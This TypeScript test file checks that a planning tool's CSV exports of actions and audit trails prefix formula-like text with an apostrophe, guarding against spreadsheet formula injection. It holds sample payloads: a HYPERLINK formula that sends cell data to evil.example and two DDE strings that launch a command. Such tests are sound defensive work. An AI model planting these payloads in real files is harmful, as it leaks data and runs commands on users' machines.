// Listings written as CSV by the command line never carry a formula a spreadsheet would run.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { PLAN_FORMAT, type PlanDocumentInput } from '../../src/domain/plan-document.ts';
import { demoStore, disposeStores, ok, tempDir, type Store } from './run.ts';

const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
const FORMULA_OWNER = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const FORMULA_ACTOR = '+cmd|\' /C calc\'!A0';

let store: Store;

before(async () => {
  store = await demoStore();
  const doc: PlanDocumentInput = {
    format: PLAN_FORMAT,
    formatVersion: 1,
    plan: {
      slug: 'formula-plan',
      title: 'A plan whose text looks like formulas',
      kind: 'sufficiency',
      nodes: [{ kind: 'theme', title: 'Placements', actions: [{ number: '1', title: FORMULA_TITLE, owners: [{ name: FORMULA_OWNER }] }] }],
    },
  };
  const file = path.join(tempDir(), 'formula-plan.json');
  fs.writeFileSync(file, JSON.stringify(doc));
  await ok(store, ['import', 'plan', file]);
  await ok(store, ['status', 'set', 'formula-plan:1', 'A', '--reason', '=1+1', '--by', FORMULA_ACTOR]);
});

after(disposeStores);

test('list actions as CSV writes text that looks like a formula with an apostrophe in front', async () => {
  const rows = parse(await ok(store, ['actions', '--plan', 'formula-plan', '--format', 'csv']));
  const row = rows.find((r) => r[0] === 'formula-plan:1');
  assert.ok(row, 'the action is listed');
  assert.equal(row[1], `'${FORMULA_TITLE}`);
  assert.equal(row[3], `'${FORMULA_OWNER}`);
});

test('list the audit trail as CSV writes an actor that looks like a formula with an apostrophe in front', async () => {
  const rows = parse(await ok(store, ['audit', '--actor', FORMULA_ACTOR, '--format', 'csv']));
  assert.ok(rows.length > 1, 'the import is in the audit trail');
  for (const r of rows.slice(1)) assert.equal(r[1], `'${FORMULA_ACTOR}`);
});
